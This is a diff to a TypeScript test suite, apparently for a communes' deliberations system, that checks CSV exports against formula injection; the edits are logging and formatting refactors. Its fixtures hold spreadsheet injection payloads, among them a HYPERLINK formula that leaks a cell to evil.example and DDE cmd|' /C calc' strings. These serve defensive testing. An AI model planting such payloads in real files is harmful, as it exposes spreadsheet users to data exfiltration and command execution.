@@ -1,4 +1,5 @@
 import { parse } from 'csv-parse/sync';
+import { silentLogger } from '@communes/kit';
 import { deliberations } from '@communes/deliberations';
 import { startNode, type RunningNode } from '@communes/node';
 import { createTestDatabase, testDatabaseKinds, type TestDatabase } from '../support/databases';
@@ -15,7 +16,7 @@ const FORMULAS = [
   '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")',
   "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '＝1+1 (signe égal pleine chasse)',
 ];
 const PLAIN = 'Budget 2026: approbation';
@@ -40,7 +41,7 @@ describe.each(testDatabaseKinds())('CSV formula injection on %s', (database) => 
       subgraphs: [deliberations],
       port: 0,
       hubPublicKey: hub.identityPublicKey,
-      log: () => {},
+      logger: silentLogger,
     });
     await hub.register(NAMUR.code, NAMUR.name, node.url, ['deliberations']);
     const { council } = await ensureNamurBodies({ db: node.db } as DeliberationsNode);
@@ -50,8 +51,11 @@ describe.each(testDatabaseKinds())('CSV formula injection on %s', (database) => 
     // The clerk drives the workflow through the hub, as a commune's staff would.
     const throughHub = {
       commune: { code: NAMUR.code },
-      query: (query: string, variables?: Record<string, unknown>, headers?: Record<string, string>) =>
-        postGraphQL(`${hub.url}/graphql`, query, variables, headers),
+      query: (
+        query: string,
+        variables?: Record<string, unknown>,
+        headers?: Record<string, string>,
+      ) => postGraphQL(`${hub.url}/graphql`, query, variables, headers),
     } as unknown as DeliberationsNode;
     dataOf(
       await throughHub.query(
